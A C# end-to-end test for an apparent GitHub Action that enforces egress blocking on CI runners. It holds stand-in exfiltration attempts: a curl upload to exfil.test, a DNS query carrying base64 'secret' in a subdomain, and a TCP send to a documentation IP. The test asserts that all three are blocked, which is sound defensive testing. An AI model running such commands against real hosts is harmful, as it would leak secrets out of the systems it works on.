using System.Text.Json;
using HardenRunner.EndToEnd.Tests.Support;
using HardenRunner.Lab;
using TestLab = HardenRunner.Lab.Lab;

namespace HardenRunner.EndToEnd.Tests;

/// <summary>
/// The GitHub Action in the lab as the runner runs it: <c>node appliance/src/main.js</c> with INPUT_* variables and
/// the runner's file-command files, a job step, then <c>node appliance/src/post.js</c> with the STATE_* variables
/// the runner hands over from the main step's GITHUB_STATE.
/// </summary>
public sealed class ActionTests
{
    private static readonly TimeSpan StepTimeout = TimeSpan.FromSeconds(120);
    private static readonly TimeSpan Wait = TimeSpan.FromSeconds(15);

    private static string Script(string name) => Path.Combine(RepositoryRoot(), "appliance", "src", name);

    private static string RepositoryRoot()
    {
        var dir = new DirectoryInfo(AppContext.BaseDirectory);
        while (dir is not null && !File.Exists(Path.Combine(dir.FullName, "HardenRunner.sln")))
        {
            dir = dir.Parent;
        }

        return dir?.FullName ?? throw new InvalidOperationException("no HardenRunner.sln above " + AppContext.BaseDirectory);
    }

    /// <summary>NAME=value and NAME&lt;&lt;DELIMITER lines of a runner file command (GITHUB_ENV, GITHUB_STATE).</summary>
    internal static Dictionary<string, string> ReadFileCommands(string path)
    {
        var result = new Dictionary<string, string>(StringComparer.Ordinal);
        var lines = File.ReadAllLines(path);
        for (var i = 0; i < lines.Length; i++)
        {
            var line = lines[i];
            var heredoc = line.IndexOf("<<", StringComparison.Ordinal);
            var eq = line.IndexOf('=', StringComparison.Ordinal);
            if (heredoc > 0 && (eq < 0 || heredoc < eq))
            {
                var delimiter = line[(heredoc + 2)..];
                var value = new List<string>();
                for (i++; i < lines.Length && lines[i] != delimiter; i++)
                {
                    value.Add(lines[i]);
                }

                result[line[..heredoc]] = string.Join('\n', value);
            }
            else if (eq > 0)
            {
                result[line[..eq]] = line[(eq + 1)..];
            }
        }

        return result;
    }

    private sealed record Job(string Dir, string Workspace, string State, string GithubEnv, string GithubState, string Summary)
    {
        public static Job Create(TestLab lab, string policy)
        {
            var dir = Path.Combine(lab.WorkDirectory, "job-" + Guid.NewGuid().ToString("N")[..8]);
            var job = new Job(dir, Path.Combine(dir, "workspace"), Path.Combine(dir, "state"), Path.Combine(dir, "github_env"), Path.Combine(dir, "github_state"), Path.Combine(dir, "step_summary.md"));
            Directory.CreateDirectory(Path.Combine(job.Workspace, ".harden"));
            File.WriteAllText(Path.Combine(job.Workspace, ".harden", "policy.yml"), policy);
            File.WriteAllText(job.GithubEnv, "");
            File.WriteAllText(job.GithubState, "");
            File.WriteAllText(job.Summary, "# build\n");
            return job;
        }

        public Dictionary<string, string> RunnerEnv() => new()
        {
            ["GITHUB_WORKSPACE"] = Workspace,
            ["GITHUB_ENV"] = GithubEnv,
            ["GITHUB_STATE"] = GithubState,
            ["GITHUB_STEP_SUMMARY"] = Summary,
            ["RUNNER_TEMP"] = Dir,
            ["HARDEN_RUNNER_PROC_CONNECTOR_NETNS"] = ApplianceProcess.ConnectorArgs[1],
            ["INPUT_HARDEN-RUNNER-PATH"] = HardenRunnerBinary.Path,
            ["INPUT_STATE-DIR"] = State,
            ["INPUT_POLICY"] = ".harden/policy.yml",
        };

        /// <summary>The STATE_* variables the runner gives the post step: the main step's GITHUB_STATE.</summary>
        public Dictionary<string, string> PostEnv()
        {
            var env = RunnerEnv();
            foreach (var (k, v) in ReadFileCommands(GithubState))
            {
                env["STATE_" + k] = v;
            }

            return env;
        }

        public IReadOnlyList<JsonElement> Events() =>
            [.. File.ReadAllLines(Path.Combine(State, "events.jsonl")).Where(l => l.Length > 0).Select(l => JsonDocument.Parse(l).RootElement.Clone())];
    }

    [SkippableFact]
    public async Task MainJobPost_BlockModeHolds_EnvAndSummaryWritten()
    {
        Skip.IfNot(LabEnvironment.CanRun, LabEnvironment.SkipReason);
        await using var lab = await TestLab.StartAsync(new LabOptions());
        var job = Job.Create(lab, EnforcementCoreTests.Policy);

        // main: step-security style inputs on top of the policy file
        var mainEnv = job.RunnerEnv();
        mainEnv["INPUT_EGRESS-POLICY"] = "block";
        mainEnv["INPUT_ALLOWED-ENDPOINTS"] = "extra.allowed.test:443\n  other.allowed.test";
        mainEnv["INPUT_DISABLE-FILE-MONITORING"] = "false";
        var main = await lab.RunInRunnerAsync("node", [Script("main.js")], StepTimeout, mainEnv);
        Assert.True(main.ExitCode == 0, main.ToString());
        Assert.Matches(@"HardenRunner insights: block mode, run \d{8}T\d{6}Z-[0-9a-f]{6}, policy .*/workspace/\.harden/policy\.yml", main.StandardOutput);

        var state = ReadFileCommands(job.GithubState);
        Assert.Equal(job.State, state["state-dir"]);
        Assert.Matches("^[0-9a-f]{48}$", state["stop-token"]);
        Assert.Equal(["dotnet", HardenRunnerBinary.Path], JsonSerializer.Deserialize<string[]>(state["command"])!);
        var githubEnv = ReadFileCommands(job.GithubEnv);
        Assert.Equal(job.State, githubEnv["HARDEN_RUNNER_STATE_DIR"]);
        foreach (var name in new[] { "NODE_EXTRA_CA_CERTS", "SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "GIT_SSL_CAINFO" })
        {
            Assert.True(githubEnv.TryGetValue(name, out var file) && File.Exists(file), $"{name} in GITHUB_ENV: {File.ReadAllText(job.GithubEnv)}");
        }

        // the job's step, with the variables the runner takes from GITHUB_ENV: block mode holds
        var stepEnv = new Dictionary<string, string>(githubEnv) { ["GITHUB_ACTION"] = "__exfil" };
        var curl = await lab.RunInRunnerAsync("curl", ["-sS", "--max-time", "5", "https://exfil.test/upload"], TimeSpan.FromSeconds(20), stepEnv);
        Assert.False(curl.Succeeded, curl.ToString());
        var dig = await EnforcementCoreTests.DigAsync(lab, "c2VjcmV0.action.exfil.test", "A");
        Assert.Contains("status: NXDOMAIN", dig.StandardOutput, StringComparison.Ordinal);
        var payload = EnforcementCoreTests.Unique("action-");
        Assert.False((await EnforcementCoreTests.SendAsync(lab, "tcp", "198.51.100.20", 9000, payload)).Succeeded);

        // post: stop, which appends the summary itself
        var post = await lab.RunInRunnerAsync("node", [Script("post.js")], StepTimeout, job.PostEnv());
        Assert.True(post.ExitCode == 0, post.ToString());
        Assert.DoesNotContain("::warning::", post.StandardOutput, StringComparison.Ordinal);

        var summary = await File.ReadAllTextAsync(job.Summary);
        Assert.StartsWith("# build\n## HardenRunner", summary, StringComparison.Ordinal);
        Assert.Contains("`198.51.100.20` | 9000 | tcp | deny | blocked", summary, StringComparison.Ordinal);
        Assert.True(await lab.HttpLog.NoneWithinAsync(r => r.Server == "exfil.test", TimeSpan.FromSeconds(1)));
        Assert.True(await lab.TcpLog.NoneWithinAsync(r => r.Preview.Contains(payload, StringComparison.Ordinal), TimeSpan.FromSeconds(1)));
        Assert.Contains(job.Events(), e => e.GetProperty("type").GetString() == "network" && e.GetProperty("host").GetString() == "exfil.test" && e.GetProperty("action").GetString() == "blocked");
        var tables = await lab.RunInRunnerAsync("nft", ["list", "tables"], StepTimeout);
        Assert.DoesNotContain("harden_runner", tables.StandardOutput, StringComparison.Ordinal);
    }
}
